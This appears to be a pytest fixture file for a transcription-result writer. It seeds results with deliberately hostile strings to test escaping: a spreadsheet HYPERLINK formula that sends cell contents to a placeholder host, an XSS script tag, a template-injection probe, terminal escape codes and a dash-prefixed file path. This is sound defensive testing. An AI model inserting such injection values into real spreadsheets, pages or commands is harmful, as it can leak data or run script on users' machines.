"""Real results, and what could make them hard to write down."""

import dataclasses
import json
from pathlib import Path

import pytest

from fv2es.result import LostUtterance, Result

RESULTS = Path(__file__).parent / "results"

NASTY = (
    '=HYPERLINK("http://x/"&A1) <script>alert(1)</script> & "quotes", commas',
    "- 今日は楽しい 😀 --> {{ 7*7 }} <b>bold</b>\x00\x1b[31m\ufffe\ud800 end",
    "+1\r\n\r\n2\n00:00:01,000 --> 00:00:02,000\u2028@x $x^2$ \\alpha מ שלום",
)
"""Words that a spreadsheet computes, a browser runs, XML forbids, subtitles end at, a terminal obeys, TeX sets."""


@pytest.fixture
def real_value() -> dict:
    """As `json.loads` gives it: three utterances, the second without a face."""
    return json.loads((RESULTS / "astronaut.json").read_text())


@pytest.fixture
def real(real_value: dict) -> Result:
    return Result.from_dict(real_value)


@pytest.fixture
def nasty(real: Result) -> Result:
    """The real result with nasty words, utterances that overlap, one unclear, one lost between others, a nasty path."""
    first, second, third = (
        dataclasses.replace(each, text=text) for each, text in zip(real.utterances, NASTY, strict=True)
    )
    second = dataclasses.replace(second, index=2, logits=dict.fromkeys(second.logits, 0.1))
    third = dataclasses.replace(third, index=3, start_s=7.0, end_s=11.9)
    lost = LostUtterance(
        index=1, start_s=4.6, end_s=4.6004, text="@lost & gone", error="NoMedia", reason="=nothing <there>"
    )
    return dataclasses.replace(
        real,
        source=dict(real.source) | {"path": "-dir/my \"film\" 'ü' <x>.mp4"},
        utterances=(first, second, third),
        lost=(lost,),
        notes=("a <note> & \x1b[0m",),
    )
